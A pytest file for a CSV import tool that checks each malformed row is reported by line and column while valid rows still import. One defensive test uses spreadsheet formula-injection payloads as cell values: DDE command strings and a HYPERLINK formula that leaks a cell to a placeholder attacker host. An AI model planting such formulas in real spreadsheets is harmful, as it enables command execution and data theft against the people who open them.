"""Malformed CSV imports (`nurture import`): every bad row is an error naming its line and
column, the good rows around it still go in, and no row is dropped without a word."""

from __future__ import annotations

import codecs
import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from nurture.importer import (
    MAX_CELL_CHARS,
    ImportAborted,
    Row,
    RowError,
    import_rows,
    read_rows,
)

HEADER = "id,email,first_name,company,phone\n"
GOOD = "ada,ada@example.com,Ada,Northwind,+48 601 234 567\n"
ALSO_GOOD = "bob,bob@example.com,Bob,ACME,-5\n"


def _read(tmp_path: Path, data: bytes) -> tuple[list[Row], list[RowError]]:
    path = tmp_path / "prospects.csv"
    path.write_bytes(data)
    return read_rows(path)


def _ids(rows: list[Row]) -> list[str]:
    return [row.prospect.id for row in rows]


def _errors(errors: list[RowError]) -> list[tuple[int, str]]:
    return [(error.line, error.message) for error in errors]


@pytest.mark.parametrize(
    ("delimiter", "name"), [(";", "semicolons (Excel, comma decimals)"), ("\t", "tabs")]
)
def test_semicolons_and_tabs_are_recognised_by_the_header(
    tmp_path: Path, delimiter: str, name: str
) -> None:
    text = (HEADER + GOOD + ALSO_GOOD).replace(",", delimiter)

    rows, errors = _read(tmp_path, text.encode())

    assert (_ids(rows), errors) == (["ada", "bob"], []), name
    assert rows[0].prospect.attributes == {"phone": "+48 601 234 567"}


def test_an_unknown_delimiter_aborts_naming_the_missing_columns(tmp_path: Path) -> None:
    with pytest.raises(ImportAborted, match=r"missing: id, email\), separated by commas"):
        _read(tmp_path, (HEADER + GOOD).replace(",", "|").encode())


def test_a_file_without_an_email_column_aborts_naming_it(tmp_path: Path) -> None:
    with pytest.raises(ImportAborted, match=r"missing: email"):
        _read(tmp_path, b"id,mail\nada,ada@example.com\n")


@pytest.mark.parametrize("data", [b"", b"\n\n"], ids=["empty", "blank lines"])
def test_an_empty_file_aborts(tmp_path: Path, data: bytes) -> None:
    with pytest.raises(ImportAborted, match=r"empty|must name the columns"):
        _read(tmp_path, data)


def test_a_column_named_twice_aborts(tmp_path: Path) -> None:
    with pytest.raises(ImportAborted, match="names email more than once"):
        _read(tmp_path, b"id,email,email\nada,a@example.com,b@example.com\n")


@pytest.mark.parametrize(
    "data",
    [
        codecs.BOM_UTF8 + (HEADER + GOOD).encode(),
        (HEADER + GOOD).encode("utf-16"),
        (HEADER + GOOD).replace("\n", "\r\n").encode(),
    ],
    ids=["UTF-8 BOM", "UTF-16 with BOM", "CRLF"],
)
def test_byte_order_marks_and_line_ends_are_read(tmp_path: Path, data: bytes) -> None:
    rows, errors = _read(tmp_path, data)

    assert (_ids(rows), errors) == (["ada"], [])


def test_a_row_in_another_encoding_is_named_and_the_others_go_in(tmp_path: Path) -> None:
    data = (
        HEADER.encode()
        + "zofia,zofia@example.com,Zażółć,Gęśla,\n".encode()
        + "lukasz,lukasz@example.com,Łukasz,Firma,\n".encode("cp1250")
        + ALSO_GOOD.encode()
    )

    rows, errors = _read(tmp_path, data)

    assert _ids(rows) == ["zofia", "bob"]
    assert rows[0].prospect.first_name == "Zażółć"
    assert _errors(errors) == [(3, "first_name: not UTF-8 text (save the file as UTF-8)")]


def test_a_huge_line_is_an_error_of_its_own(tmp_path: Path) -> None:
    huge = "cy,cy@example.com,Cy,ACME," + "9" * 200_000 + "\n"
    long = "dan,dan@example.com,Dan," + "x" * (MAX_CELL_CHARS + 1) + ",\n"

    rows, errors = _read(tmp_path, (HEADER + huge + long + GOOD).encode())

    assert _ids(rows) == ["ada"]
    assert _errors(errors) == [
        (2, "unreadable row: field larger than field limit (131072)"),
        (3, f"company: {MAX_CELL_CHARS + 1:,} characters, more than the 10,000 allowed"),
    ]


def test_a_repeated_id_names_the_line_it_repeats(tmp_path: Path) -> None:
    text = HEADER + GOOD + ALSO_GOOD + GOOD.replace("ada@", "ada.second@")

    rows, errors = _read(tmp_path, text.encode())

    assert _ids(rows) == ["ada", "bob"]
    assert _errors(errors) == [(4, "id: 'ada' is already on line 2")]


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
    ],
)
def test_a_spreadsheet_formula_is_refused_naming_the_column(tmp_path: Path, formula: str) -> None:
    escaped = '"' + formula.replace('"', '""') + '"'
    text = HEADER + f"eve,eve@example.com,Eve,{escaped},\n" + GOOD

    rows, errors = _read(tmp_path, text.encode())

    assert _ids(rows) == ["ada"]  # a phone number starting with + is no formula
    [(line, message)] = _errors(errors)
    assert line == 2
    assert message.startswith("company: ")
    assert message.endswith("would run as a formula in a spreadsheet")


def test_a_quote_left_open_is_named_not_swallowing_rows_in_silence(tmp_path: Path) -> None:
    text = HEADER + 'cy,cy@example.com,"Cy,ACME,\n' + ALSO_GOOD + GOOD

    rows, errors = _read(tmp_path, text.encode())

    # The open quote runs to the end of the file: one error at the row where it opened.
    assert rows == []
    assert _errors(errors) == [(2, "first_name: holds a line break; is a quote left unclosed?")]


def test_a_bad_address_a_missing_id_and_extra_fields_are_each_named(tmp_path: Path) -> None:
    text = (
        HEADER
        + "eve,eve\x1b@example.com,Eve,,\n"
        + ",nobody@example.com,,,\n"
        + "dan,dan@example.com,Dan,ACME,,extra\n"
        + GOOD
    )

    rows, errors = _read(tmp_path, text.encode())

    assert _ids(rows) == ["ada"]
    assert [line for line, _ in _errors(errors)] == [2, 3, 4]
    assert "email" in errors[0].message and "control characters" in errors[0].message
    assert errors[1].message == "id: missing"
    assert errors[2].message == "more fields than the header has columns"


def test_every_row_of_a_messy_file_is_either_imported_or_named(tmp_path: Path) -> None:
    records = [
        GOOD,
        "eve,eve@example.com,Eve,=1+1,\n",
        "\n",
        ALSO_GOOD,
        "lukasz,lukasz@example.com,Łukasz,,\n",
        GOOD,
        "cy,cy@example.com,Cy,ACME,+48 22 123 45 67\n",
    ]
    data = HEADER.encode() + b"".join(
        record.encode("cp1250" if "Łukasz" in record else "utf-8") for record in records
    )

    rows, errors = _read(tmp_path, data)

    assert _ids(rows) == ["ada", "bob", "cy"]
    assert [error.line for error in errors] == [3, 6, 7]
    data_lines = len([record for record in records if record.strip()])
    assert len(rows) + len(errors) == data_lines  # nothing dropped without a word


async def test_the_good_rows_go_in_and_the_api_errors_name_their_lines(tmp_path: Path) -> None:
    rows, _ = _read(tmp_path, (HEADER + GOOD + ALSO_GOOD).encode())
    posted: list[dict[str, Any]] = []

    def api(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        posted.extend(body)
        return httpx.Response(
            201,
            json={
                "enrolled": [
                    {"workflow_id": "w", "journey_id": "j", "version": 1, "prospect_id": "ada"}
                ],
                "conflicts": [],
                "errors": [{"prospect_id": "bob", "message": "Temporal is unavailable"}],
            },
        )

    async with httpx.AsyncClient(
        transport=httpx.MockTransport(api), base_url="http://api"
    ) as client:
        report = await import_rows(rows, journey_id="j", client=client)

    assert [item["id"] for item in posted] == ["ada", "bob"]
    assert (report.enrolled, _errors(report.errors)) == (1, [(3, "Temporal is unavailable")])
